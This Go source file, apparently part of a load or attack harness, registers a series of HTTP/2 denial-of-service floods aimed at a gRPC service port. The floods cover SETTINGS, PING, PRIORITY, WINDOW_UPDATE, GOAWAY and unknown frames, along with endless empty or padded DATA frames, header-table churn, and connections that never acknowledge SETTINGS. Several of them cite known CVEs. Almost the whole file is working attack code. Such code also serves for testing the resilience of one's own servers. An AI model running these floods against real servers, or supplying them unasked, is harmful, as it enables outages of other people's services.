package main

import (
	"golang.org/x/net/http2"
)

// Frames without end that bring no request forward.

func init() {
	const batch = 2000
	flood := func(name, what string, write func(*conn)) {
		add(attack{name: name, port: grpcPort, what: what, run: each(4, settings{}, func(c *conn) error {
			for range batch {
				write(c)
			}
			return c.flood()
		})})
	}
	flood("settings-flood", "Empty SETTINGS frames without end, each of which must be acknowledged (CVE-2019-9515).",
		func(c *conn) { must(c.WriteSettings()) })
	flood("ping-flood", "PING frames without end (CVE-2019-9512).",
		func(c *conn) { must(c.WritePing(false, [8]byte{})) })
	flood("ping-acks", "Acknowledgements of PING frames that were never sent.",
		func(c *conn) { must(c.WritePing(true, [8]byte{})) })
	flood("priority", "PRIORITY frames that reorder streams without end (CVE-2019-9513).",
		func(c *conn) { must(c.WritePriority(c.nextID(), http2.PriorityParam{StreamDep: 1, Weight: 7})) })
	flood("window-update", "WINDOW_UPDATE frames of one byte for the connection, until its window is too large.",
		func(c *conn) { must(c.WriteWindowUpdate(0, 1)) })
	flood("unknown-frames", "Frames of a type that does not exist.",
		func(c *conn) { must(c.WriteRawFrame(0xbe, 0, 0, nil)) })
	flood("goaway-flood", "GOAWAY frames without end.",
		func(c *conn) { must(c.WriteGoAway(0, http2.ErrCodeNo, nil)) })

	add(attack{name: "settings-unread", port: grpcPort,
		what: "SETTINGS and PING frames without end on connections that read no answer.",
		run: each(20, settings{unread: true}, func(c *conn) error {
			for range batch {
				must(c.WriteSettings())
				must(c.WritePing(false, [8]byte{}))
			}
			return c.flood()
		})})

	add(attack{name: "settings-windows", port: grpcPort,
		what: "SETTINGS that change the window of 256 open streams back and forth.",
		run: each(4, settings{}, func(c *conn) error {
			for range 256 {
				c.begin(redirectPath)
			}
			if err := c.send(); err != nil {
				return err
			}
			for i := range batch {
				must(c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i & 1)}))
			}
			return c.flood()
		})})

	add(attack{name: "settings-table-size", port: grpcPort,
		what: "Calls between SETTINGS that change the size of the header table, while the server's own are never acknowledged (CVE-2026-93492).",
		run: each(4, settings{neverAck: true}, func(c *conn) error {
			return c.churn(50, func() {
				for _, size := range []uint32{0, 1 << 30, 4096} {
					must(c.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: size}))
				}
				c.call(redirectPath, exampleRequest)
			})
		})})

	add(attack{name: "settings-never-acked", port: grpcPort,
		what: "200 connections that make calls but never acknowledge the server's SETTINGS.",
		run: each(200, settings{neverAck: true}, func(c *conn) error {
			c.call(redirectPath, exampleRequest)
			if err := c.send(); err != nil {
				return err
			}
			return c.hold()
		})})

	add(attack{name: "settings-small-header-list", port: grpcPort,
		what: "Calls of a client that says it takes no headers, so that each answer is an error (CVE-2026-50560).",
		run: each(4, settings{values: []http2.Setting{{ID: http2.SettingMaxHeaderListSize, Val: 1}}}, func(c *conn) error {
			return c.churn(100, func() { c.call(redirectPath, exampleRequest) })
		})})

	// onOpenStream floods with frames for a stream whose request has not ended.
	onOpenStream := func(name, what string, write func(*conn, uint32)) {
		add(attack{name: name, port: grpcPort, what: what, run: each(4, settings{}, func(c *conn) error {
			id := c.begin(redirectPath)
			if err := c.send(); err != nil {
				return err
			}
			for range batch {
				write(c, id)
			}
			return c.flood()
		})})
	}
	onOpenStream("empty-data", "Empty DATA frames of a request that never ends (CVE-2019-9518).",
		func(c *conn, id uint32) { must(c.WriteData(id, false, nil)) })
	onOpenStream("padded-data", "DATA frames of padding alone, of a request that never ends.",
		func(c *conn, id uint32) { must(c.WriteDataPadded(id, false, nil, []byte{0})) })
	onOpenStream("stream-window-update", "WINDOW_UPDATE frames of one byte for a stream (CVE-2019-9511).",
		func(c *conn, id uint32) { must(c.WriteWindowUpdate(id, 1)) })
	onOpenStream("late-priority", "PRIORITY frames for an open stream.",
		func(c *conn, id uint32) { must(c.WritePriority(id, http2.PriorityParam{StreamDep: 0, Weight: 7})) })

	add(attack{name: "empty-data-after-end", port: grpcPort,
		what: "Empty DATA frames for streams that were answered long ago.",
		run: each(4, settings{}, func(c *conn) error {
			id := c.call(redirectPath, exampleRequest)
			if err := c.send(); err != nil {
				return err
			}
			for range batch {
				must(c.WriteData(id, false, nil))
			}
			return c.flood()
		})})
}
